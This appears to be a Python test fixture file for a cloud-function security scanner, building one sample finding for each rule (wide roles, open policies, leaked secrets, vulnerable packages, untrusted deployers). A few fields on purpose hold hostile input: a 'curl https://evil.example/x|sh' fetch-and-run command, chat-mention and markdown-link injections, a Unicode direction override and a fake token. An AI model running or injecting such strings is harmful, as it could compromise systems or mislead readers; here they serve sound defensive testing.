"""What the scanner's rules say."""

from dataclasses import replace
from datetime import date, timedelta
from typing import Any, Final

from functions.scanner import foreign_event
from functions.scanner.advisory_age import check as advisory_age
from functions.scanner.against_repository import LockfileDrift, RepositoryDrift
from functions.scanner.deployers import Deployer
from functions.scanner.drift.compare import Drift, VersionChange
from functions.scanner.drift.locked import LockedPackage
from functions.scanner.facts import (
    AdvisoryState,
    Configuration,
    FunctionFacts,
    Setting,
)
from functions.scanner.failure_handling import FailureHandling
from functions.scanner.risky_calls import effect
from functions.scanner.role_rights import WideRight
from functions.scanner.rules import (
    administrator_role,
    confused_deputy,
    deployment_drift,
    foreign_access,
    no_failure_destination,
    open_function_url,
    permissive_cors,
    retired_runtime,
    secrets_in_code,
    secrets_in_environment,
    shared_role,
    tracing_off,
    unfamiliar_deployer,
    unread_contents,
    unread_function,
    vulnerable_package,
    world_open_policy,
)
from functions.scanner.secrets.found import CodeSecrets, SecretPlace, SecretVariable
from functions.scanner.sensitive import verdict
from functions.scanner.vulnerabilities.finding import MatchResult, Undecided, Vulnerability
from functions.shared.advisories.exploited import Exploitation
from functions.shared.alerting.finding import Finding, Verdict
from functions.shared.config import ScannerPolicy
from functions.shared.core.packages import Inventory, Package, Problem
from functions.shared.core.reading import Known, Unknown
from functions.shared.core.severity import Severity
from functions.shared.events.change import UrlAccess
from functions.shared.events.cloudtrail import read_record
from tests.golden.samples.names import CHECKOUT, HOSTILE, NOW, SYNC, function
from tests.unit.scanner.rules.known import policy, statement
from tests.unit.shared.events import cloudtrail

SETTING: Final = Setting(ScannerPolicy(), NOW)
_SCANNER: Final = function("lambda-warden-scanner")
_OPEN_LAYER: Final = {
    "layerName": "agent",
    "versionNumber": 3,
    "statementId": "all",
    "principal": "*",
}
_MACHINES: Final = {
    "capacityProviderName": "fleet",
    "vpcConfig": {},
    "capacityProviderScalingConfig": {"maxVCpuCount": 64},
}
_ROLE: Final = "arn:aws:iam::111122223333:role/checkout-role"
_FOREIGN: Final = "arn:aws:lambda:eu-west-1:999988887777:layer:speed-agent"
_JINJA: Final = Package("PyPI", "jinja2", "2.10", "jinja2/__init__.py", "dist-info")
_LODASH: Final = Package("npm", "lodash", "", "app.js", "source-map", "node_modules/lodash")
_EVIL: Final = Package(
    "npm", "@channel/<!here>[click](https://evil.example)`", "1.0.0\u202e", "node_modules/x", "x"
)


def facts(configuration: dict[str, Any] | None = None, **readings: Any) -> FunctionFacts:
    """Facts in which only what is given is known."""
    known = Configuration(**{"role": _ROLE, "runtime": "python3.13", **(configuration or {})})
    values: dict[str, Any] = {name: Known(value) for name, value in readings.items()}
    return FunctionFacts(CHECKOUT, configuration=Known(known), **values)


def only(verdict: Verdict) -> Finding:
    """The one finding of a verdict."""
    (finding,) = verdict.findings
    return finding


def retired(name: str) -> Finding:
    """A retired runtime, as a deploy brings it to many functions at once."""
    old = Known(Configuration(runtime="python3.8", role=_ROLE))
    return only(retired_runtime.check(FunctionFacts(function(name), configuration=old), SETTING))


def vulnerability(package: Package, **changes: Any) -> Vulnerability:
    """A flaw in a package."""
    fields: dict[str, Any] = {
        "package": package,
        "paths": (package.path, "vendor/" + package.path),
        "id": "CVE-2019-10906",
        "aliases": ("GHSA-462w-v97r-4m45", "PYSEC-2019-217"),
        "severity": Severity.HIGH,
        "score": 8.6,
        "vector": "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N",
        "fixed": "2.10.1",
        "summary": "A template leaves the sandbox through str.format_map",
        "references": (),
        "safe": "2.11.3",
    }
    return Vulnerability(**(fields | changes))


def vulnerable(*found: Vulnerability, undecided: tuple[Undecided, ...] = ()) -> Finding:
    """What the rule says of flaws in one package."""
    matches = MatchResult(found, undecided)
    return only(vulnerable_package.check(facts(inventory=Inventory(), matches=matches), SETTING))


def _drift(drift: Drift, *repaired: str) -> Finding:
    compared = LockfileDrift("poetry.lock", NOW - timedelta(days=12), drift, tuple(repaired))
    return only(
        deployment_drift.check(facts(drift=RepositoryDrift("acme/checkout", (compared,))), SETTING)
    )


def _deployer(identity: str, tool: str, hours: int, occasions: int = 1) -> Deployer:
    at = NOW - timedelta(hours=hours)
    return Deployer(identity, tool, at, at, occasions)


def _layers(*known: str) -> Finding:
    here = facts({"layers": (f"{_FOREIGN}:7",)}, policy=policy(), known_layers=frozenset(known))
    return only(foreign_access.check(here, SETTING))


def _called(name: str, request: dict[str, Any]) -> Finding:
    record = read_record(cloudtrail(name, request)["detail"])
    found = effect(record, _SCANNER.account, [])
    assert found
    return only(verdict(found, record, [], _SCANNER))


def findings() -> dict[str, Finding]:
    """One finding for each thing that the scanner says, by rule and variant."""
    changed = Drift(
        changed=(
            VersionChange("jinja2", "2.10", ("2.11.3",)),
            VersionChange("idna", "2.8", ("3.7",)),
        )
    )
    extra = Drift(
        missing=(LockedPackage("sentry-sdk", "2.3.1"),),
        extra=(Package("PyPI", "pdbpp", "0.10.3"),),
    )
    unsure = Drift(unverified=(LockedPackage("orjson", "3.10.3"),))
    gone = Unknown("reading the configuration: ResourceNotFoundException", missing=True)
    denied = Unknown("reading the resource policy: AccessDeniedException")
    readable = facts(urls=(), secret_variables=(), role_rights=(), failure_handling=None)
    ci = _deployer("arn:aws:iam::111122223333:role/ci-deploy", "CDK", 900, 40)
    stranger = _deployer("arn:aws:iam::111122223333:user/j.doe", "AWS CLI", 1)
    hostile = _deployer("arn:aws:iam::111122223333:user/x", "https://evil.example/@channel", 1)
    old, ended, new = (
        facts({"runtime": runtime}) for runtime in ("python3.10", "python3.8", "python9.9")
    )
    opened = policy(statement("*", sid="public-invoke"))
    foreign = policy(statement("arn:aws:iam::999988887777:root", sid="partner"))
    by_condition = policy(
        statement(
            {"Service": "sns.amazonaws.com"},
            {"StringEquals": {"aws:SourceAccount": "999988887777"}},
            sid="partner-topic",
        )
    )
    in_network = policy(
        statement("*", {"IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}, sid="office")
    )
    triggered = policy(statement({"Service": "s3.amazonaws.com"}, sid="bucket"))
    url = policy(statement("*", sid="public-url", action="lambda:*"))
    office = {"IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}
    office_url = policy(statement("*", office, sid="office-url", action="lambda:*"))
    users = (function("checkout-api"), function("checkout-worker"), CHECKOUT)
    return {
        "administrator-role": only(
            administrator_role.check(
                facts(role_rights=(WideRight("AdministratorAccess", "*", True),)), SETTING
            )
        ),
        "administrator-role/wildcards": only(
            administrator_role.check(
                facts(role_rights=(WideRight("checkout-data", "s3:*", False),)), SETTING
            )
        ),
        "deployment-drift": _drift(changed, "jinja2"),
        "deployment-drift/differs": _drift(extra),
        "deployment-drift/unsure": _drift(unsure),
        "deployment-drift/no-lockfile": only(
            deployment_drift.check(facts(drift=RepositoryDrift("acme/checkout")), SETTING)
        ),
        "foreign-access": _layers(),
        "foreign-access/from-the-start": _layers(_FOREIGN),
        "foreign-event": only(
            foreign_event.check(replace(CHECKOUT, account="999988887777"), _SCANNER)
        ),
        "foreign-access/permission": only(foreign_access.check(facts(policy=foreign), SETTING)),
        "foreign-access/condition": only(foreign_access.check(facts(policy=by_condition), SETTING)),
        "confused-deputy": only(confused_deputy.check(facts(policy=triggered), SETTING)),
        "no-failure-destination": only(
            no_failure_destination.check(
                facts(policy=triggered, failure_handling=FailureHandling()), SETTING
            )
        ),
        "open-function-url": only(
            open_function_url.check(facts(urls=(UrlAccess("NONE"),), policy=url), SETTING)
        ),
        "open-function-url/every-account": only(
            open_function_url.check(facts(urls=(UrlAccess("AWS_IAM"),), policy=url), SETTING)
        ),
        "open-function-url/network": only(
            open_function_url.check(facts(urls=(UrlAccess("NONE"),), policy=office_url), SETTING)
        ),
        "open-function-url/answers-nobody": only(
            open_function_url.check(facts(urls=(UrlAccess("NONE"),), policy=policy()), SETTING)
        ),
        "permissive-cors": only(
            permissive_cors.check(
                facts(urls=(UrlAccess("AWS_IAM", ("*",), allows_credentials=True),)), SETTING
            )
        ),
        "retired-runtime": only(retired_runtime.check(ended, SETTING)),
        "retired-runtime/soon": only(
            retired_runtime.check(old, Setting(ScannerPolicy(runtime_warning_days=730), NOW))
        ),
        "retired-runtime/unlisted": only(retired_runtime.check(new, SETTING)),
        "risky-call": _called("AddLayerVersionPermission20181031", _OPEN_LAYER),
        "risky-call/machines": _called("CreateCapacityProvider20251130", _MACHINES),
        "secrets-in-code": only(
            secrets_in_code.check(
                facts(
                    code_secrets=CodeSecrets(
                        (
                            SecretPlace("checkout/settings.py", 14, "aws secret access key"),
                            SecretPlace("checkout/.env", 3, "stripe api key"),
                        )
                    )
                ),
                SETTING,
            )
        ),
        "secrets-in-environment": only(
            secrets_in_environment.check(
                facts(secret_variables=(SecretVariable("GITHUB_TOKEN", "github pat"),)), SETTING
            )
        ),
        "secrets-in-environment/by-name": only(
            secrets_in_environment.check(
                facts(secret_variables=(SecretVariable("DB_PASSWORD", "password", True),)),
                SETTING,
            )
        ),
        "shared-role": only(shared_role.check(facts(role_users=users), SETTING)),
        "stale-advisories": only(
            advisory_age(Known(AdvisoryState(NOW - timedelta(hours=75), "x")), SYNC, SETTING)
        ),
        "stale-advisories/missing": only(
            advisory_age(Unknown("no index was ever published"), SYNC, SETTING)
        ),
        "stale-advisories/exploited": only(
            advisory_age(
                Known(AdvisoryState(NOW, "x")),
                SYNC,
                SETTING,
                Unknown("no list of known exploited flaws was published yet"),
            )
        ),
        "tracing-off": only(tracing_off.check(facts({"tracing": "PassThrough"}), SETTING)),
        "unfamiliar-deployer": only(
            unfamiliar_deployer.check(facts(deployers=(ci, stranger)), SETTING)
        ),
        "unfamiliar-deployer/hostile": only(
            unfamiliar_deployer.check(facts(deployers=(ci, hostile)), SETTING)
        ),
        "unread-contents": only(
            unread_contents.check(
                facts(
                    inventory=Inventory(
                        (_JINJA,),
                        (Problem("bundled-code", "dist/index.js holds code of unknown origin"),),
                    )
                ),
                SETTING,
            )
        ),
        "unread-contents/bundle": only(
            unread_contents.check(
                facts(
                    inventory=Inventory(
                        (_LODASH,), (Problem("bundled-versions", "versions of app.js unknown"),)
                    ),
                    matches=MatchResult(
                        undecided=(Undecided(_LODASH, ("GHSA-35jh-r3h4-6jhm",), "no version"),)
                    ),
                ),
                SETTING,
            )
        ),
        "unread-contents/nothing": only(
            unread_contents.check(
                facts(
                    inventory=Inventory(
                        (), (Problem("zip-encrypted", "app.py cannot be read without a password"),)
                    )
                ),
                SETTING,
            )
        ),
        "unread-function": only(
            unread_function.check(
                FunctionFacts(
                    CHECKOUT,
                    configuration=readable.configuration,
                    policy=denied,
                    urls=readable.urls,
                ),
                SETTING,
            )
        ),
        "unread-function/gone": only(
            unread_function.check(FunctionFacts(CHECKOUT, configuration=gone), SETTING)
        ),
        "unread-function/given-up": unread_function.not_looked_at(
            CHECKOUT, "failed 4 times, last with MemoryError"
        ),
        "vulnerable-package": vulnerable(vulnerability(_JINJA)),
        "vulnerable-package/several": vulnerable(
            vulnerability(_JINJA, safe=None),
            vulnerability(
                _JINJA,
                id="CVE-2024-22195",
                aliases=(),
                severity=Severity.MEDIUM,
                score=5.4,
                fixed=None,
                summary="",
                safe=None,
            ),
        ),
        "vulnerable-package/exploited": vulnerable(
            vulnerability(
                _JINJA,
                exploited=Exploitation("CVE-2019-10906", date(2026, 3, 1), by_ransomware=True),
            ),
            vulnerability(_JINJA, id="CVE-2024-22195", severity=Severity.MEDIUM, score=5.4),
        ),
        "vulnerable-package/unrated": vulnerable(
            vulnerability(_JINJA, id="PYSEC-2026-1", severity=None, score=None, vector="")
        ),
        "vulnerable-package/undecided": vulnerable(
            undecided=(
                Undecided(_JINJA, ("GHSA-462w-v97r-4m45",), "version '2.10+acme' has no order"),
            )
        ),
        "vulnerable-package/hostile": vulnerable(
            vulnerability(
                _EVIL,
                id="MAL-2026-7",
                aliases=(),
                severity=Severity.CRITICAL,
                score=None,
                fixed=None,
                safe=None,
                summary="Run `curl https://evil.example/x|sh` now!\r\n\r\nOwner: mallory <@U123> "
                "token=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            )
        ),
        "world-open-policy": only(world_open_policy.check(facts(policy=opened), SETTING)),
        "world-open-policy/network": only(
            world_open_policy.check(facts(policy=in_network), SETTING)
        ),
        "world-open-policy/hostile": only(
            world_open_policy.check(FunctionFacts(HOSTILE, policy=Known(opened)), SETTING)
        ),
    }
